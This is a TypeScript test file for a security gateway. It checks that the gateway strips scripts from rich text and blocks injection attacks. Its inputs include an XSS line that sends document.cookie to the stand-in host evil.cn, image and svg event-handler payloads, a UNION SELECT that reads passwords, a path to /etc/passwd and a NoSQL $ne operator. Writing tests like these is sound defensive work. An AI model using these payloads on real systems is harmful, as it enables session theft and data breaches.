import type { ConfigInput } from '@menshen/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Deployment, startDeployment } from '../testing/deployment.ts';

const object = (properties: Record<string, unknown>) => ({ type: 'object', additionalProperties: false, properties });

/** The portal with rich text on several ways, and routes whose types are learned. */
const withRoutes = (config: ConfigInput): ConfigInput => {
  const [portal] = config.apps ?? [];
  if (portal === undefined) throw new Error('no app');
  const free = { action: 'note.write' } as const;
  return {
    ...config,
    apps: [
      {
        ...portal,
        routes: [
          ...(portal.routes ?? []),
          { match: 'POST /article', ...free, richText: [{ field: 'html', clean: 'in' }] },
          {
            match: 'POST /declared',
            ...free,
            schema: object({ html: { type: 'string', format: 'rich-text' }, title: { type: 'string', format: 'text' } }),
          },
          { match: 'POST /watched', ...free, mode: 'monitor', richText: [{ field: 'html', clean: 'in' }] },
          { match: 'GET /article/:id', action: 'secret.read', richText: [{ field: 'html', clean: 'out' }] },
          { match: 'POST /orders', ...free },
          { match: 'POST /form', ...free, body: { types: ['form'] }, richText: [{ field: 'html' }] },
          {
            match: 'POST /typed',
            ...free,
            schema: object({
              id: { type: 'string', format: 'id' },
              note: { type: 'string', format: 'text' },
              detail: { type: 'string', format: 'json-text' },
            }),
          },
        ],
      },
    ],
  };
};

describe('positive security at the gateway', () => {
  let deployment: Deployment;
  let token: string;
  beforeAll(async () => {
    deployment = await startDeployment({ change: withRoutes });
    token = await deployment.token('zhang');
  });
  afterAll(() => deployment.close());

  const send = (method: string, path: string, body?: unknown) =>
    deployment.call(method, `/portal/${path}`, { token, ...(body === undefined ? {} : { body }) });
  const last = () => JSON.parse(deployment.backend.seen.at(-1)?.body ?? 'null');

  it('cleans rich text before the backend stores it, and keeps the rest as it is', async () => {
    const body = {
      title: '通知 & <重要>',
      html: '<p onclick="steal()">体检<script>fetch("//evil.cn?"+document.cookie)</script></p><img src=x onerror=alert(1)>',
    };
    const answer = await send('POST', 'article', body);
    expect(answer.status).toBe(200);
    expect(last()).toEqual({ title: body.title, html: '<p>体检</p><img src="x" />' });
  });

  it('cleans what the schema declares as rich text', async () => {
    await send('POST', 'declared', { title: 'a', html: '<b>x</b><iframe src="//evil.cn"></iframe>' });
    expect(last()).toEqual({ title: 'a', html: '<b>x</b>' });
  });

  it('still looks for other attacks in the words of rich text', async () => {
    const seen = deployment.backend.seen.length;
    const answer = await send('POST', 'article', { html: "<p>x' UNION SELECT username, password FROM users -- </p>" });
    expect(answer).toMatchObject({ status: 403, body: { code: 'request_blocked' } });
    expect(deployment.backend.seen).toHaveLength(seen);
  });

  it('cleans forms too', async () => {
    await deployment.call('POST', '/portal/form', {
      token,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      raw: Buffer.from(`title=${encodeURIComponent('通知')}&html=${encodeURIComponent('<p>a<script>1</script></p>')}`),
    });
    expect(deployment.backend.seen.at(-1)?.body).toBe(
      `title=${encodeURIComponent('通知')}&html=${encodeURIComponent('<p>a</p>')}`,
    );
  });

  it('cleans what was stored before, and drops validators of the other text', async () => {
    deployment.backend.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json', etag: '"1"' });
      response.end(JSON.stringify({ item: { html: '<p>旧公告<svg onload=alert(1)></svg></p>', title: '<i>' } }));
    };
    const answer = await send('GET', 'article/1');
    expect(answer.body).toEqual({ item: { html: '<p>旧公告</p>', title: '<i>' } });
    expect(answer.headers.get('etag')).toBeNull();
  });

  it('does not disclose an answer whose rich text it cannot find', async () => {
    deployment.backend.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<script>alert(1)</script>');
    };
    expect(await send('GET', 'article/1')).toMatchObject({ status: 502, body: { code: 'backend_answer_invalid' } });
    deployment.backend.answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end('{}');
    };
  });

  it('only notes in monitor mode', async () => {
    const body = { html: '<p>a<img src=x onerror=alert(1)></p>' };
    await send('POST', 'watched', body);
    expect(last()).toEqual(body);
  });

  it('does not inspect what a settled type holds, and refuses what does not fit it', async () => {
    expect((await send('POST', 'typed', { id: 'A_1', note: '好' })).status).toBe(200);
    expect(await send('POST', 'typed', { id: '../../etc/passwd', note: '好' })).toMatchObject({
      status: expect.toSatisfy((status: number) => status === 403 || status === 422),
    });
    expect(await send('POST', 'typed', { id: { $ne: '' }, note: '好' })).toMatchObject({
      status: expect.toSatisfy((status: number) => status >= 400),
    });
  });

  it('looks into JSON within a text leaf by leaf, and refuses what has two readings', async () => {
    const detail = (value: unknown): object => ({ id: 'A_1', detail: typeof value === 'string' ? value : JSON.stringify(value) });
    expect((await send('POST', 'typed', detail({ form: [{ name: '备注', value: '请放门口' }], v: 2 }))).status).toBe(200);
    const attack = { form: [{ name: 'q', value: "x' UNION SELECT username, password FROM users -- " }] };
    expect(await send('POST', 'typed', detail(attack))).toMatchObject({ status: 403, body: { code: 'request_blocked' } });
    expect(await send('POST', 'typed', detail('{"a":1,"a":2}'))).toMatchObject({
      status: 422,
      body: { code: 'schema_mismatch' },
    });
  });

  it('refuses rich text larger than any article', async () => {
    expect(await send('POST', 'article', { html: '<b>'.repeat(30_000) })).toMatchObject({
      status: 413,
      body: { code: 'body_too_large' },
    });
  });
});
